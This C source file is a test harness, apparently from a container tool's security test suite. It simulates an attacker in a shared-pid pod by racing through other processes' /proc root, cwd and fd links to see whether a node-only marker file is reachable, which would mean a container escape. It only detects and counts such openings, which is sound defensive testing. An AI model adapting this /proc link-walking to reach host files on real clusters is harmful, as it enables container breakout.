/* fdscan: the attacker of issue 13 section 1, run inside a pod that shares its pid namespace.
 *
 * As fast as it can, it walks every process it can see and, for each of /proc/PID/root,
 * /proc/PID/cwd and every /proc/PID/fd/N, tries to reach a marker that exists only on the node
 * (MARKER, a path relative to the node's /, e.g. run/nsinspect-escape-1234) through the link
 * itself and through one to four `..` above it. A link whose target reads /proc/... but is not a
 * procfs of this pod's containers is a hit as well. Between full walks it chases the newest PIDs:
 * /proc/loadavg names the last PID this pid namespace handed out, and each of the most recent
 * RECENT of them is scanned every round, so a helper that lives for microseconds is still seen.
 *
 *   fdscan MARKER PLANT SECONDS STOPFILE
 *
 * PLANT: a path in this container that must be visible through /proc/self/root (self-check).
 * Prints "HIT kind path detail" at once for every hit, then one line of counts at the end
 * (after SECONDS, or as soon as STOPFILE exists): links probed, rounds, fresh (PIDs newer than
 * its start that it caught alive), opened (those of them whose fds it could list), hits and
 * doors (distinct processes that gave one). Exit 0 with no hit, 1 with hits, 2 on misuse. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *marker;
static dev_t own_proc;
#define RECENT 32

static long links, hits, rounds;

/* Every hit is counted; the first MAX_PRINTED are printed at once (a real door is hit every round). */
#define MAX_PRINTED 20
#define MAX_DOORS 4096

static int doors[MAX_DOORS], ndoors;

static void hit(int pid, const char *kind, const char *path, const char *detail) {
    int known = 0;
    for (int i = 0; i < ndoors && !known; i++)
        known = doors[i] == pid;
    if (!known && ndoors < MAX_DOORS)
        doors[ndoors++] = pid;
    if (hits++ < MAX_PRINTED) {
        printf("HIT %s %s %s\n", kind, path, detail);
        fflush(stdout);
    }
}

/* The procfs this process's container mounted at /proc: a link to it is the pod's own. */
static int own_container_proc(int pid, dev_t dev) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/root/proc", pid);
    return stat(path, &st) == 0 && st.st_dev == dev;
}

static void probe(int pid, const char *link) {
    static const char *ups[] = {"", "/..", "/../..", "/../../..", "/../../../.."};
    char path[512], target[512];
    links++;
    for (size_t i = 0; i < sizeof ups / sizeof *ups; i++) {
        snprintf(path, sizeof path, "%s%s/%s", link, ups[i], marker);
        if (faccessat(AT_FDCWD, path, F_OK, 0) == 0) {
            hit(pid, "marker", path, "");
            return;
        }
    }
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n <= 0)
        return;
    target[n] = 0;
    if (strncmp(target, "/proc", 5) != 0 || (target[5] != '/' && target[5] != 0))
        return;
    struct stat st;
    if (stat(link, &st) == 0 && st.st_dev != own_proc && !own_container_proc(pid, st.st_dev))
        hit(pid, "readlink", link, target);
}

/* 1: scanned; 0: there, but its fds are not ours to see (not dumpable, other credentials); -1: gone. */
static int scan_pid(int pid) {
    char base[64], path[512], buf[4096];
    snprintf(base, sizeof base, "/proc/%d/fd", pid);
    int fd = open(base, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return errno == ENOENT || errno == ESRCH ? -1 : 0;
    for (;;) {
        long got = syscall(SYS_getdents64, fd, buf, sizeof buf);
        if (got <= 0)
            break;
        for (long off = 0; off < got;) {
            struct dirent64 *d = (struct dirent64 *)(buf + off);
            off += d->d_reclen;
            if (d->d_name[0] == '.')
                continue;
            snprintf(path, sizeof path, "%s/%s", base, d->d_name);
            probe(pid, path);
        }
    }
    close(fd);
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    probe(pid, path);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    probe(pid, path);
    return 1;
}

static void walk(int proc_fd, int self) {
    char buf[8192];
    lseek(proc_fd, 0, SEEK_SET);
    for (;;) {
        long got = syscall(SYS_getdents64, proc_fd, buf, sizeof buf);
        if (got <= 0)
            break;
        for (long off = 0; off < got;) {
            struct dirent64 *d = (struct dirent64 *)(buf + off);
            off += d->d_reclen;
            int pid = atoi(d->d_name);
            if (pid > 0 && pid != self)
                scan_pid(pid);
        }
    }
}

/* The last PID handed out in this process's pid namespace (the fifth field of /proc/loadavg). */
static int last_pid(int fd) {
    char buf[128];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n <= 0)
        return -1;
    buf[n] = 0;
    char *space = strrchr(buf, ' ');
    return space ? atoi(space + 1) : -1;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: fdscan MARKER PLANT SECONDS STOPFILE\n");
        return 2;
    }
    marker = argv[1];
    char plant[512];
    snprintf(plant, sizeof plant, "/proc/self/root/%s", argv[2]);
    double deadline = now() + atof(argv[3]);
    struct stat st;
    int proc_fd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    if (proc_fd < 0 || loadavg < 0 || fstat(proc_fd, &st) != 0) {
        perror("/proc");
        return 2;
    }
    own_proc = st.st_dev;
    int self = getpid(), start = last_pid(loadavg), newest = start;
    int recent[RECENT] = {0};
    char seen[RECENT] = {0}; /* per slot: 1 seen alive, 2 also opened */
    long fresh = 0, opened = 0;
    printf("selfcheck=%d\n", faccessat(AT_FDCWD, plant, F_OK, 0) == 0);
    fflush(stdout);
    for (;;) {
        rounds++;
        int last = last_pid(loadavg);
        for (int pid = newest + 1; last > newest && pid <= last && pid > last - RECENT; pid++) {
            recent[pid % RECENT] = pid;
            seen[pid % RECENT] = 0;
        }
        if (last > newest)
            newest = last;
        for (int i = 0; i < RECENT; i++) {
            if (!recent[i] || recent[i] == self)
                continue;
            int got = scan_pid(recent[i]);
            if (got >= 0 && seen[i] == 0) {
                seen[i] = 1;
                fresh++;
            }
            if (got == 1 && seen[i] == 1) {
                seen[i] = 2;
                opened++;
            }
        }
        if ((rounds & 15) == 0)
            walk(proc_fd, self);
        if ((rounds & 1023) == 0 && (now() > deadline || access(argv[4], F_OK) == 0))
            break;
    }
    printf("scanned=%ld rounds=%ld fresh=%ld opened=%ld hits=%ld doors=%d\n", links, rounds, fresh, opened, hits,
           ndoors);
    return hits ? 1 : 0;
}
